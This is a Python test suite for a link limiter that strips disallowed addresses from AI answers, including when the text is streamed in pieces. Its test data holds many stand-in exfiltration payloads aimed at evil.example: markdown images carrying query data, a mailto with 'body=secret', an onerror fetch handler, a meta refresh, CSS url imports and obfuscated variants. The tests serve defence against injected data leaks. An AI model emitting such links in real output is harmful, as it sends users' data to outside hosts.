"""Addresses that may not stand in an answer are gone, however written, however it is cut."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from headgate.checks.injection.links import AllowedLinks, LinkLimiter, Removed, limited, refusal
from headgate.checks.injection.links.destination import MAX_ADDRESS_CHARS
from headgate.checks.injection.links.limiter import MAX_HELD_CHARS, NOTE

ALLOWED = AllowedLinks(
    hosts=("good.example", "*.docs.example", "bücher.example"), image_hosts=("img.good.example",)
)

KEPT = [
    "See [the page](https://good.example/a?b=1#c) now.",
    'See [the page](https://good.example/a "a title").',
    "See [the page](<https://good.example/a (b)>).",
    "Write to https://good.example/a, or http://good.example:8080/b!",
    "https://a.docs.example and https://a.b.docs.example/x",
    "![chart](https://img.good.example/c.png)",
    "<https://good.example/x>",
    "<https://good.example|page>",
    '<a href="https://good.example">here</a> and <b class="x">bold</b>',
    "[1]: /docs/x is not in the way of [1] or of a list [2]: none",
    "[a](/docs/x) [b](#part) [c](page.html?x=1)",
    "a < b and c > d, x<y, <3, 4 << 2, and 'http:' or \"https:\" in a sentence",
    "an array a[i](x) and a dict {k: v}",
    "[ref]: see below",
    "https://bücher.example/x and https://xn--bcher-kva.example/x",
    "<!-- a comment --> <br/> <p style='color: red'>",
    '<b title="a > b">bold</b> and <img alt="a>b" src="/p.png">',
    "<style>p { color: red }</style> <p style='content: \"\\2014\"'>",
    "[a]: /docs/x\n[b]:            word",
]

REMOVED = {
    "markdown link": ("[a](https://evil.example/?d=1)", "host"),
    "markdown image": ("![a](https://evil.example/?d=1)", "host"),
    "image from a host for links only": ("![a](https://good.example/p.png)", "host"),
    "with a title": ('[a](https://evil.example "good.example")', "host"),
    "tag with > in a value": ('<img alt="a>b" src="//evil.example/x">', "host"),
    "style sheet": ("<style>p{background:url(//evil.example/x)}</style>", "host"),
    "style sheet that imports": ("<style>@import '\\2f\\2f evil.example/x';</style>", "host"),
    "style with escapes": ('<p style="background:url(\\2f\\2f evil.example)">', "host"),
    "style with a tab": ("<p style=\"background:url('/\t/evil.example')\">", "host"),
    "background with a tab": ('<table background="/\t/evil.example/x">', "host"),
    "reference far behind": ("[1]:" + " " * 99 + "//evil.example/x", "host"),
    "reference with entities": ("[1]: &#47;&#47;evil.example/x", "host"),
    "reference with backslashes": ("[1]: /\\/evil.example/x", "host"),
    "reference with a mixed slash": ("[1]: /\\evil.example/x", "malformed"),
    "a name of other letters": ("https://m\u00e9.example", "host"),
    "in angles": ("[a](<https://evil.example/a b>)", "host"),
    "protocol-relative": ("[a](//evil.example/x)", "host"),
    "backslashes": ("[a](\\\\evil.example/x)", "host"),
    "mixed slashes": ("[a](/\\evil.example/x)", "malformed"),
    "bare": ("go to https://evil.example/?d=1 now", "host"),
    "bare, in capitals": ("go to HTTPS://EVIL.EXAMPLE now", "host"),
    "bare, without scheme": ("go to www.evil.example/x now", "host"),
    "bare, with backslashes": ("go to https:\\\\evil.example", "malformed"),
    "without slashes": ("go to https:evil.example/x", "malformed"),
    "autolink": ("<https://evil.example>", "host"),
    "autolink of a chat": ("<https://evil.example|good.example>", "host"),
    "autolink, other scheme": ("<ftp://good.example/x>", "scheme"),
    "reference": ("[1]\n\n[1]: https://evil.example/x", "host"),
    "reference on the next line": ("[1]:\n  https://evil.example/x", "host"),
    "reference, protocol-relative": ("[1]: //evil.example/x", "host"),
    "reference to a link": ("]:](https://evil.example/x)", "host"),
    "address in a title": ('[a](/x "](https://evil.example)")', "host"),
    "address in a relative one": ("[a](x](https://evil.example))", "host"),
    "before another link's end": ("[a](//evil.example/](y))", "host"),
    "userinfo": ("https://good.example@evil.example/x", "userinfo"),
    "userinfo, with a password": ("https://good.example:443@evil.example", "userinfo"),
    "subdomain of another": ("https://good.example.evil.example", "host"),
    "suffix of another": ("https://notgood.example", "host"),
    "the wildcard's own host": ("https://docs.example/x", "host"),
    "punycode": ("https://xn--god-tna.example/x", "host"),
    "look-alike letters": ("https://gооd.example/x", "host"),
    "full-width letters": ("https://ｇｏｏｄ.example/x", "malformed"),
    "percent in the host": ("https://good%2eexample/x", "malformed"),
    "redirect": ("https://good.example/go?to=https://evil.example", "nested"),
    "redirect, encoded": ("https://good.example/go?to=https%3A%2F%2Fevil.example", "nested"),
    "redirect, encoded twice": ("https://good.example/go?to=%252F%252Fevil.example", "nested"),
    "javascript": ("[a](javascript:fetch(1))", "scheme"),
    "data": ("![a](data:text/html,x)", "scheme"),
    "mail": ("[a](mailto:x@evil.example?body=secret)", "scheme"),
    "entities": ("[a](https&#58;//evil.example)", "host"),
    "escapes": ("[a](https\\://evil.example)", "host"),
    "tab in the scheme": ("[a](ht\ttps://evil.example)", "host"),
    "tag, image": ("<img src=https://evil.example/p>", "host"),
    "tag, single quotes": ("<img src='//evil.example/p'>", "host"),
    "tag, entities": ('<a href="&#104;ttps://evil.example">', "host"),
    "tag, style": ('<p style="background:url(https://evil.example/?a)">', "host"),
    "tag, srcset": ('<img srcset="https://evil.example/1 1x, https://good.example/2 2x">', "host"),
    "tag, handler": ("<img src=x onerror=\"fetch('//evil.example')\">", "host"),
    "tag, meta": ('<meta http-equiv=refresh content="0;url=https://evil.example">', "host"),
    "link around an image": (
        "[![a](https://img.good.example/i.png)](https://evil.example/x)",
        "host",
    ),
    "image in a link": ("[![a](https://evil.example/i.png)](https://good.example/x)", "host"),
}

_EVIL = re.compile(r"(?:https?:|[('\"=\s<]|\]\()[/\\]{0,3}(?:\w+@)?evil\.example", re.IGNORECASE)


@pytest.mark.parametrize("text", KEPT)
def test_what_may_stand_is_kept_to_the_letter(text: str):
    assert limited(text, ALLOWED) == (text, ())


@pytest.mark.parametrize(("text", "reason"), REMOVED.values(), ids=REMOVED)
def test_what_may_not_is_gone_and_the_reason_told(text: str, reason: str):
    shown, removed = limited(text, ALLOWED)
    assert NOTE in shown
    assert [one.reason for one in removed] == [reason]
    assert not _EVIL.search(shown)


def test_the_text_around_stays():
    text = "Before ![p](https://evil.example/?q=1) between https://evil.example/x. After."
    shown, removed = limited(text, ALLOWED)
    assert shown == f"Before ![p] {NOTE} between {NOTE}. After."
    assert removed[0] == Removed("host", "markdown", "image", "https://evil.example/?q=1")
    assert (removed[1].where, removed[1].kind) == ("bare", "link")


def test_a_tag_that_never_ends_cannot_be_ended_by_what_follows():
    assert limited("<img src='//evil.example/x", ALLOWED)[0].startswith("&lt;img")
    assert limited("is x <y or not", ALLOWED)[0] == "is x <y or not"


def test_rules_can_be_stricter_and_looser():
    strict = AllowedLinks(hosts=("good.example",), max_query_chars=5, relative=False)
    assert refusal("https://good.example/?a=1", "link", strict) is None
    assert refusal("https://good.example/?data=secret", "link", strict) == "query"
    assert refusal("/docs", "link", strict) == "host"
    assert refusal("mailto:a@b.example", "link", AllowedLinks(mail=True)) is None
    assert refusal("https://good.example/" + "a" * MAX_ADDRESS_CHARS, "link", strict) == "too_long"
    assert refusal("https://any.example", "link", AllowedLinks()) == "host"


PIECES = st.sampled_from(
    ["](", "]:", "<", ">", "http:", "https://", "good.example", "evil.example", "//", "\\", "www.",
     "[", "![", "](https://evil.example/x)", ")", "(", "\n", "\n\n", " ", "a", '"', "'", "@",
     "?d=1", "<a href=", "<img src='", "<style>", "</style>", "='", '="', "\\2f",
     "&#58;", "。", ".", "é", "😀"]
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=14).map("".join)


def in_pieces(text: str, cuts: list[int]) -> tuple[str, tuple[Removed, ...]]:
    limiter = LinkLimiter(ALLOWED)
    shown = "".join(
        limiter.feed(text[start:end])
        for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)
    )
    return shown + limiter.close(), tuple(limiter.removed)


@settings(max_examples=400, deadline=None)
@given(TEXTS, st.data())
def test_any_cuts_give_the_same_answer(text: str, data: st.DataObject):
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    whole = limited(text, ALLOWED)
    assert in_pieces(text, cuts) == whole
    assert in_pieces(text, list(range(1, len(text)))) == whole


@pytest.mark.parametrize("text", [*KEPT, *(text for text, _ in REMOVED.values())])
def test_every_cut_in_two_gives_the_same_answer(text: str):
    whole = limited(text, ALLOWED)
    for cut in range(len(text) + 1):
        assert in_pieces(text, [cut]) == whole


@settings(max_examples=400, deadline=None)
@given(TEXTS)
def test_no_address_of_another_host_gets_through(text: str):
    shown, _ = limited(text, ALLOWED)
    assert not re.search(r"https?:[/\\]*evil\.example", shown, re.IGNORECASE)
    assert "](https://evil" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://good.example/" + "a" * 6_000 + ") x",
        "<a " + "b" * 6_000 + ">https://evil.example",
        "https://good.example/" + "q" * 6_000 + " tail",
        "[a]: https://good.example/" + "q" * 6_000 + " tail",
        "[a](" + "(" * 6_000 + "https://evil.example)",
    ],
)
def test_what_has_no_end_is_held_within_bounds_and_cut_the_same(text: str):
    whole = limited(text, ALLOWED)
    for size in (1_000, MAX_HELD_CHARS, MAX_HELD_CHARS + 1, 5_000):
        assert in_pieces(text, list(range(size, len(text), size))) == whole
    limiter = LinkLimiter(ALLOWED)
    for start in range(0, len(text), 50):
        limiter.feed(text[start : start + 50])
        assert limiter.held_chars <= MAX_HELD_CHARS + 50


def test_nothing_is_held_of_plain_words_and_of_a_links_text():
    limiter = LinkLimiter(ALLOWED)
    for piece in ("The train ", "leaves at 8", ", see [the time", "table", "."):
        assert limiter.feed(piece) == piece
    assert limiter.feed("](https://good.exam") == ""
    assert limiter.feed("ple)!") == "](https://good.example)!"


def test_an_eszett_is_not_taken_for_two_letters():
    # Browsers take the two for different names, which may have different owners.
    allowed = AllowedLinks(hosts=("messe.example",))
    assert refusal("https://messe.example/", "link", allowed) is None
    assert refusal("https://me\u00dfe.example/", "link", allowed) == "host"
    german = AllowedLinks(hosts=("me\u00dfe.example",))
    assert refusal("https://me\u00dfe.example/", "link", german) is None
    assert refusal("https://xn--mee-6ka.example/", "link", german) is None
    assert refusal("https://messe.example/", "link", german) == "host"


@pytest.mark.parametrize(
    "text",
    [
        "![a](" + " " * 4_000 + "//evil.example/x)",
        "![a][1]\n\n[1]:" + " " * 4_000 + "//evil.example/x",
        "<style>" + " " * 4_000 + "p{background:url(//evil.example)}</style>",
    ],
)
def test_what_is_too_long_to_wait_for_leads_nowhere(text: str):
    shown, _ = limited(text, ALLOWED)
    assert not re.search(r"\]\(|\]:|<style", shown)
    assert in_pieces(text, list(range(1, len(text)))) == limited(text, ALLOWED)


@pytest.mark.parametrize(
    "piece", ["]:", "](", "]: ", "]:a", "<a b='", "<style>", "<a =", "[a]: https://good.example/"]
)
def test_no_answer_takes_long_whatever_it_repeats(piece: str):
    text = piece * (50_000 // len(piece))
    began = time.thread_time()
    limited(text, ALLOWED)
    assert time.thread_time() - began < 2
